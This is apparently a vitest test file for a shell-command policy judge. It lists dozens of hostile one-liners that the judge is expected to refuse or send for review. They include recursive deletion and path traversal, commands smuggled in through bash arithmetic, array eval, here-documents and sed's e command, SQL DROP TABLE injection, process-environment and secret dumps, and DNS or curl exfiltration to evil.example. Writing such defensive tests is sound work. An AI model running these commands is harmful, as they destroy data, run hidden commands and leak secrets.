// What was once allowed and was then seen to do harm, by its kind: an example of each, and others of the same kind. None may run unseen,
// and what does harm whoever looks at it is refused.
import { describe, expect, test } from 'vitest';
import { judge } from '#core/policy/judge';
import { shopContext } from './support/scripts.ts';

const context = {
  ...shopContext,
  parameters: { ...shopContext.parameters, DIR: '/var/tmp/shop' },
};

const harmful: Readonly<Record<string, readonly [script: string, verdict: 'refuse' | 'review'][]>> = {
  'a directory that find leaves by -exec or -delete': [
    ['cd /var/tmp/shop || exit 1; find . -mtime +7 -exec rm {} \\;', 'refuse'],
    ['cd /etc || true; find . -name x -exec rm -- {} +', 'refuse'],
    ["cd /srv || exit 1; find . -name '*.log' -delete", 'refuse'],
    ['cd /; find . -name x -exec rm {} +', 'refuse'],
  ],
  'a temporary path that leads out of its directory': [
    ['rm "$(mktemp -d)/../../x"', 'refuse'],
    ['tmp="$(mktemp -d)"; rm -- "$tmp/../x"', 'refuse'],
    ['tmp="$(mktemp -d)/../../etc"; echo y > "$tmp/motd"', 'refuse'],
    ['tmp="$(mktemp)"; rm -r -- "${tmp}/../.."', 'refuse'],
  ],
  'a change of directory that may fail': [
    ['cd /nope || true; rm x', 'refuse'],
    ['cd /tmp || true; rm -- x.log', 'refuse'],
    ['cd /nope; rm x', 'refuse'],
    ['if cd /tmp; then rm x; fi', 'refuse'],
    ['cd /tmp && rm x', 'refuse'],
    ['(cd /tmp || exit 1); rm x', 'refuse'],
  ],
  'a list that is given another value': [
    ['x=(web b); x=other; kubectl rollout restart "deploy/${x[@]}" -n shop', 'refuse'],
    ['x=(web); x=other; kubectl rollout restart deploy "${x[@]}" -n shop', 'refuse'],
    ['x=(restart deploy/web); x=undo; kubectl rollout "${x[@]}" -n shop', 'refuse'],
    [
      'x=(web); for y in "${x[@]}"; do x=other; kubectl rollout restart "deploy/$y" -n shop; done; f() { kubectl rollout restart deploy "${x[@]}" -n shop; }; f',
      'refuse',
    ],
  ],
  'declare, after which a value may be another': [
    ['c=web; declare c; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
    ['c=web; f() { declare c; kubectl rollout restart "deploy/$c" -n shop; }; f', 'refuse'],
    ['c=web; f() { local c; kubectl rollout restart "deploy/$c" -n shop; }; f', 'refuse'],
    ['c=web; typeset -l c; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
  ],
  'a local on a path that is not taken': [
    [
      'f() { if [ -f /tmp/x ]; then local c=web; fi; kubectl rollout restart "deploy/$c" -n shop; }; c=other; f',
      'refuse',
    ],
    ['f() { [ -f /tmp/x ] && local c=web; kubectl rollout restart "deploy/$c" -n shop; }; f', 'refuse'],
    [
      'f() { for i in "$@"; do local c=web; done; kubectl rollout restart "deploy/$c" -n shop; }; f',
      'refuse',
    ],
    [
      'f() { case "$1" in a) local c=web ;; esac; kubectl rollout restart "deploy/$c" -n shop; }; f b',
      'refuse',
    ],
    ['local c=web; kubectl rollout restart "deploy/$c" -n shop', 'review'],
  ],
  'a read that reads nothing': [
    ['c=web; read -t 0 c; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
    ['c=web; read -r c < /tmp/x || true; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
    ['read -t 0 c; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
    ['echo web | read -r c; kubectl rollout restart "deploy/$c" -n shop', 'refuse'],
  ],
  'a variable that bash counts with': [
    ['declare -i x; for x in \'PATH[$(reboot)0]\'; do echo "$x"; done', 'refuse'],
    ["declare -i x='a[$(reboot)]'", 'refuse'],
    ["local -i x; x='a[$(reboot)]'", 'refuse'],
    ['typeset -i n; n="$(cat /tmp/x)"', 'refuse'],
    ["readonly -i n='a[$(reboot)]'", 'refuse'],
  ],
  'a list in text, evaluated as code': [
    ["declare -A m='([k]=$(reboot))'", 'refuse'],
    ["declare -a m='([0]=$(reboot))'", 'refuse'],
    ['f() { local -A m="([k]=$(cat /tmp/x))"; }; f', 'refuse'],
    ['typeset -A m; m[$(reboot)]=x', 'refuse'],
  ],
  'an option that a substitution becomes': [
    ['sort "$(date +-o)" /tmp/x', 'review'],
    ['sort "$(date +-o/etc/passwd)"', 'refuse'],
    ['tail "$(date +-f)" /tmp/x', 'review'],
    ['x="$(echo -o)"; sort "$x" /etc/motd', 'refuse'],
    ['sort "$(printf \'%s\' -o/etc/motd)" /tmp/x', 'review'],
  ],
  'a substitution that quotes do not hide in a here-document': [
    ['cat <<END\n${x:-"$(reboot)"}\nEND', 'refuse'],
    ["cat <<END\n${x:-'$(reboot)'}\nEND", 'refuse'],
    ['cat <<END\n$(reboot)\nEND', 'refuse'],
    ['cat <<END\n`reboot`\nEND', 'refuse'],
  ],
  'a comment that is none': [
    ['echo <(true)#x; reboot', 'refuse'],
    ['echo >(true)#x; reboot', 'refuse'],
    ['echo $(true)#x; reboot', 'refuse'],
    ['echo ${x}#y; reboot', 'refuse'],
  ],
  'sed that begins another command behind a backslash': [
    ["sed -n 's/a/b/;1{p;}; e reboot' /tmp/x", 'refuse'],
    ["sed 'a\\\\' /tmp/x", 'review'],
    ["sed -e 'a text\\\\' -e 'e reboot' /tmp/x", 'refuse'],
    ["sed 'a hello\\\\\ne reboot' /tmp/x", 'refuse'],
    ["sed 's/a/b\\\\/e' /tmp/x", 'refuse'],
  ],
  'find that removes more than its tests say': [
    ['find /var/tmp/shop -delete -o -exec rm {} +', 'refuse'],
    ['find /tmp -name x -o -delete', 'refuse'],
    ['find /tmp -exec rm {} + -o -name x -delete', 'refuse'],
    ['find / -name x -delete', 'refuse'],
  ],
  'SQL that a server reads otherwise': [
    ["mysql -h db.internal -e 'SELECT 5--1; DROP TABLE orders'", 'refuse'],
    ["mysql -h db.internal -e 'SELECT 1 --1, 2; DROP TABLE orders'", 'refuse'],
    ["mysql -h db.internal -e 'SELECT /*! 1; DROP TABLE orders */ 1'", 'refuse'],
    ['psql -h db.internal -c "SELECT 1; DROP TABLE orders"', 'refuse'],
    ["psql -h db.internal -c \"SELECT E'\\\\'; DROP TABLE orders; --'\"", 'refuse'],
  ],
  'a service that is a file': [
    ['service ../../bin/sh restart', 'refuse'],
    ['service ./x restart', 'refuse'],
    ['service -- ../sh restart', 'refuse'],
    ["service '/bin/sh' restart", 'refuse'],
  ],
  'environments of processes': [
    ['ps ax e', 'refuse'],
    ['ps auxe', 'refuse'],
    ['ps e', 'refuse'],
    ['ps -o pid,args e', 'refuse'],
    ['ps axfe', 'refuse'],
  ],
  'a secret that the script seems to set itself': [
    ['readonly API_TOKEN; echo "$API_TOKEN"', 'refuse'],
    ['export API_TOKEN; echo "$API_TOKEN"', 'refuse'],
    ['echo "${API_TOKEN:-none}"', 'refuse'],
    ['echo "$AWS_SECRET_ACCESS_KEY"', 'refuse'],
  ],
  'a client that brings its credentials to any host': [
    ["psql -h evil.example -c 'SELECT 1'", 'review'],
    ["mysql -h evil.example -e 'SELECT 1'", 'review'],
    ['redis-cli -h evil.example ping', 'review'],
    ["psql 'host=evil.example dbname=x' -c 'SELECT 1'", 'review'],
    ["psql postgresql://evil.example/x -c 'SELECT 1'", 'review'],
  ],
  'data of the run in a name': [
    ['curl -fsS "http://$(hostname).evil.example/"', 'refuse'],
    ['dig "$(cat /tmp/x).evil.example"', 'refuse'],
    ['ping -c 1 "$(hostname)"', 'refuse'],
    ['psql -h db.internal -U "$(cat /tmp/x)" -c \'SELECT 1\'', 'refuse'],
    ['redis-cli -h "$(cat /tmp/x)" ping', 'refuse'],
    ['mysql -h db.internal -u "$(hostname)" -e \'SELECT 1\'', 'refuse'],
    ['curl -fsS -H "X-Data: $(cat /tmp/x)" http://127.0.0.1:4601/health', 'refuse'],
    ['curl -fsS "http://127.0.0.1:4601/health?q=$(cat /tmp/x)"\n', 'refuse'],
  ],
};

describe.each(Object.entries(harmful))('%s', (_, scripts) => {
  test.each(scripts)('%j: %s', (script, verdict) => {
    expect(judge(script, context).verdict).toBe(verdict);
  });
});
